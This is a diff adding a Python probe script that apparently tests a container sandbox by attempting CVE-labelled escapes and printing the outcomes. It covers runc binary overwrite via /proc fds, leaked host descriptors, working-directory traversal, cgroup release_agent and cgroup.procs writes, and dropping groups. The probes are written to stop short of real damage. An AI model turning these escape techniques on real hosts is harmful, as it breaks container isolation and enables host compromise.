@@ -1,0 +1,164 @@
+"""Runs inside a container and tries to get out of it; prints what it got, a line each.
+
+    python3 -I -S attacker.py TRY [ARGUMENT …]
+
+It imports nothing of the project, since it runs on the container's own Python.
+"""
+
+import ctypes
+import errno
+import os
+import sys
+import time
+
+LIBC = ctypes.CDLL(None, use_errno=True)
+SECONDS = 4.0
+NEW_USER, NEW_MOUNTS, NEW_CGROUP = 0x10000000, 0x20000, 0x02000000
+
+
+def name_of(code):
+    return errno.errorcode.get(code, str(code))
+
+
+def overwrite(descriptor):
+    """Write to the program that a descriptor is of, as soon as nobody runs it any more.
+
+    What is written is the byte that is there already. (CVE-2019-5736)
+    """
+    print("reached", os.readlink(f"/proc/self/fd/{descriptor}"), flush=True)
+    deadline = time.monotonic() + SECONDS
+    while True:
+        try:
+            written = os.open(f"/proc/self/fd/{descriptor}", os.O_WRONLY)
+            os.pwrite(written, b"\x7f", 0)
+        except OSError as error:
+            if error.errno == errno.ETXTBSY and time.monotonic() < deadline:
+                continue
+            print("refused", name_of(error.errno), flush=True)
+        else:
+            print("WRITTEN", flush=True)
+        return
+
+
+def watch(seconds):
+    """Look at every process that comes: at its program and its descriptors.
+
+    (CVE-2019-5736, CVE-2016-9962)
+    """
+    ours = os.stat("/").st_dev
+    known = set(os.listdir("/proc"))
+    deadline = time.monotonic() + float(seconds)
+    print("watching", flush=True)
+    while time.monotonic() < deadline:
+        for entry in os.listdir("/proc"):
+            if entry in known or not entry.isdigit():
+                continue
+            look_at(f"/proc/{entry}", ours)
+    print("watched", flush=True)
+
+
+def look_at(process, ours):
+    try:
+        program = os.open(f"{process}/exe", os.O_RDONLY)
+    except OSError:
+        pass
+    else:
+        if os.fstat(program).st_dev != ours:
+            overwrite(program)
+        os.close(program)
+    try:
+        descriptors = os.listdir(f"{process}/fd")
+    except OSError:
+        return
+    for descriptor in descriptors:
+        try:
+            reached = os.open(f"{process}/fd/{descriptor}/..", os.O_PATH | os.O_DIRECTORY)
+        except OSError:
+            continue
+        if os.fstat(reached).st_dev not in {ours, os.stat("/proc").st_dev}:
+            print("ESCAPED by", os.readlink(f"{process}/fd/{descriptor}"), flush=True)
+        os.close(reached)
+
+
+def up(marker):
+    """Climb from the working directory to the host's root. (CVE-2024-21626)"""
+    try:
+        with open("../" * 40 + marker.lstrip("/")) as found:
+            print("ESCAPED", found.read())
+    except OSError as error:
+        print("refused", name_of(error.errno))
+    # An absolute path can't lead there, so the working directory must not either.
+    print("stands in", os.getcwd())
+
+
+def release_agent():
+    """Have the kernel run a program of ours on the host. (CVE-2022-0492)"""
+    for what, flags in (("user", NEW_USER | NEW_MOUNTS | NEW_CGROUP), ("cgroup", NEW_CGROUP)):
+        pid = os.fork()
+        if pid == 0:
+            if LIBC.unshare(flags) < 0:
+                print("refused namespace", what, name_of(ctypes.get_errno()), flush=True)
+            mount_and_write()
+            os._exit(0)
+        os.waitpid(pid, 0)
+    mount_and_write()
+
+
+def mount_and_write():
+    os.makedirs("/tmp/hierarchy", exist_ok=True)
+    for kind, data in ((b"cgroup", b"memory"), (b"cgroup", b"none,name=attack"), (b"cgroup2", b"")):
+        if LIBC.mount(b"none", b"/tmp/hierarchy", kind, 0, data) == 0:
+            print("MOUNTED", kind.decode(), data.decode(), flush=True)
+        else:
+            print("refused mount", name_of(ctypes.get_errno()), flush=True)
+    for directory, _, names in os.walk("/sys/fs/cgroup"):
+        if "release_agent" in names:
+            write(f"{directory}/release_agent")
+
+
+def write(path):
+    try:
+        descriptor = os.open(path, os.O_WRONLY)
+    except OSError as error:
+        print("refused", name_of(error.errno), path, flush=True)
+    else:
+        print("WRITABLE", path, flush=True)
+        os.close(descriptor)
+
+
+def cgroups():
+    """Write to the cgroups that are shown. (CVE-2023-25809)"""
+    for directory, _, names in os.walk("/sys/fs/cgroup"):
+        if "cgroup.procs" not in names:
+            continue
+        try:
+            os.mkdir(f"{directory}/attack")
+        except OSError as error:
+            print("refused", name_of(error.errno), directory, flush=True)
+        else:
+            print("WRITABLE", directory, flush=True)
+            os.rmdir(f"{directory}/attack")
+        write(f"{directory}/cgroup.procs")
+
+
+def drop_groups():
+    """Leave a group that is kept from something. (CVE-2018-7169)"""
+    with open("/proc/self/setgroups") as setgroups:
+        print("setgroups", setgroups.read().strip())
+    try:
+        os.setgroups([])
+    except OSError as error:
+        print("refused", name_of(error.errno))
+    else:
+        print("DROPPED")
+
+
+TRIES = {
+    "overwrite": overwrite,
+    "watch": watch,
+    "up": up,
+    "release_agent": release_agent,
+    "cgroups": cgroups,
+    "drop_groups": drop_groups,
+}
+TRIES[sys.argv[1]](*sys.argv[2:])
